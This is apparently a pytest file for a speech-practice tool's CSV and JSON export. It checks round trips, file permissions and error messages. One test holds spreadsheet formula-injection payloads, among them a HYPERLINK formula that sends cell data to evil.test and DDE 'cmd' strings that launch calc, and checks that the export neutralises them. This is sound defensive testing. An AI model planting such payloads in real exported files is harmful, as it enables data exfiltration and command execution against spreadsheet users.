"""`redrill export`: CSV and JSON round trips, files user-only, clean errors."""

from __future__ import annotations

import csv
import io
import json
import stat

from fixtures_attempts import T0, metrics, seed
from redrill.paths import Paths
from redrill.scoring import Metrics
from redrill.store import open_store
from redrill.tracking.export import CSV_COLUMNS, csv_row


def rich_metrics():
    m = metrics(131.5, 42.25, pauses=2)
    m.update(
        {
            "words": 300,
            "fillers": {"um": 3, "you know": 1},
            "repeated_phrases": [{"phrase": "at the end of the day", "count": 3}],
            "talking_points": {"covered": ["what went wrong; and why"], "missing": ["lesson", "result"]},
            "restart_examples": ["I went - I decided"],
            "a_new_metric": 7,
        }
    )
    return m


def test_csv_round_trip(cli, redrill_home):
    ids = seed(redrill_home, [("a", rich_metrics()), ("b", None)])
    result = cli("export", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert list(rows[0])[: len(CSV_COLUMNS)] == list(CSV_COLUMNS)
    assert "a_new_metric" in rows[0]  # metrics this version does not know still get a column
    first, second = rows
    assert int(first["id"]) == ids[0] and first["question_id"] == "a" and first["question_text"] == "Text of a?"
    assert first["created_at"] == T0.isoformat()
    assert float(first["duration_s"]) == 131.5 and float(first["ramble_score"]) == 42.25
    assert float(first["over_target_s"]) == 11.5 and float(first["under_target_s"]) == 0
    assert (float(first["target_min_s"]), float(first["target_max_s"])) == (60, 120)
    assert first["fillers"] == "um=3;you know=1"
    assert first["long_pause_count"] == "2" and first["long_pauses"] == "0.0+2.5;5.0+2.5"
    assert first["repeated_phrases"] == "at the end of the day×3"
    assert first["talking_points_covered"] == "what went wrong, and why"
    assert first["talking_points_missing"] == "lesson;result"
    assert first["a_new_metric"] == "7"
    # an attempt that is not scored yet has empty metric cells, not zeros
    assert second["status"] == "recorded" and second["duration_s"] == "" and second["ramble_score"] == ""
    assert float(second["audio_seconds"]) == 33.0


def test_json_round_trip_equals_the_store(cli, redrill_home):
    seed(redrill_home, [("a", rich_metrics()), ("b", None), ("a", metrics(None, 80, pauses=None))])
    data = json.loads(cli("export", "--format", "json").output)
    assert data["format"] == "redrill-export" and data["version"] == 1
    store = open_store(Paths(redrill_home))
    stored = store.attempts()
    store.close()
    assert len(data["attempts"]) == len(stored)
    for row, attempt in zip(data["attempts"], stored):
        assert row["id"] == attempt.id
        assert row["metrics"] == (None if attempt.metrics is None else attempt.metrics.to_dict())
        assert row["transcript"] == attempt.transcript
        assert row["created_at"] == attempt.created_at.isoformat()
        for key in (
            "question_id",
            "question_text",
            "source",
            "status",
            "audio_path",
            "audio_seconds",
            "error",
            "interview_id",
        ):
            assert row[key] == getattr(attempt, key)


def test_export_to_a_file_is_user_only(cli, redrill_home, tmp_path):
    seed(redrill_home, [("a", metrics(100, 10))])
    target = tmp_path / "out" / "all.json"
    result = cli("export", "--format", "json", "--out", target)
    assert result.exit_code == 0
    assert "Exported 1 attempt" in (result.stderr or result.output)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert json.loads(target.read_text())["attempts"][0]["question_id"] == "a"


def test_export_to_an_unwritable_place_is_a_clean_error(cli, redrill_home, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    result = cli("export", "--out", blocker / "sub" / "x.csv")
    assert result.exit_code == 1
    assert "Error: cannot write" in result.stderr and "--out" in result.stderr


def test_export_rejects_unknown_formats(cli):
    result = cli("export", "--format", "xml")
    assert result.exit_code == 2
    assert "'xml' is not one of 'csv', 'json'" in result.stderr


def test_empty_export_has_a_header():
    from redrill.tracking.export import export_text

    text, count = export_text([], "csv")
    assert count == 0 and text.strip() == ",".join(CSV_COLUMNS)


def test_csv_row_has_every_column_for_an_empty_metrics_dict():
    from redrill.store import Attempt

    row = csv_row(Attempt(1, "q", "Q?", T0, "text", "recorded"))
    assert set(CSV_COLUMNS) <= set(row)


FORMULAS = {
    '=HYPERLINK("http://evil.test/?"&A1,"click")': "question_text",
    "+cmd|' /C calc'!A0": "talking_points_covered",
    "@SUM(1+1)*cmd|' /C calc'!A0": "talking_points_missing",
    "-2+3+cmd|' /C calc'!A0": "restart_examples",
    "\t=1+1": "hedge_examples",
    "\r=1+1": "error",
}


def test_csv_export_neutralises_formula_cells(cli, redrill_home):
    """Cells a spreadsheet would run as a formula start with a single quote (OWASP's advice);
    numbers stay numbers, and the JSON export keeps the text exactly as stored."""
    by_column = {column: text for text, column in FORMULAS.items()}
    m = metrics(131.5, 42.25, pauses=2)
    m.update(
        {
            "talking_points": {
                "covered": [by_column["talking_points_covered"]],
                "missing": [by_column["talking_points_missing"]],
            },
            "restart_examples": [by_column["restart_examples"]],
            "hedge_examples": [by_column["hedge_examples"]],
            "under_target_s": -3.5,  # a negative number is a number, not a formula
        }
    )
    store = open_store(Paths(redrill_home))
    store.add_attempt(
        question_id="evil",
        question_text=by_column["question_text"],
        source="text",
        status="scored",
        created_at=T0,
        metrics=Metrics.from_dict(m),
        error=by_column["error"],
    )
    store.close()

    [row] = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").output)))
    for text, column in FORMULAS.items():
        assert row[column] == "'" + text.replace("\r", "\n"), (column, row[column])
    assert row["under_target_s"] == "-3.5" and row["duration_s"] == "131.5"
    assert row["question_id"] == "evil"
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r\n" or cell == "-3.5", cell

    [stored] = json.loads(cli("export", "--format", "json").output)["attempts"]
    assert stored["question_text"] == by_column["question_text"]


def test_csv_has_the_transcript_words(cli, redrill_home):
    """JSON had the transcript, CSV did not: a spreadsheet user could not read an answer by its figures."""
    text = "We rolled back within the hour, and I wrote the runbook."
    assert cli("answer", "failure-story", "--text", text).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(cli("export", "--format", "csv").output)))
    assert rows[-1]["transcript"] == text
    assert list(rows[-1])[-1] == "transcript"
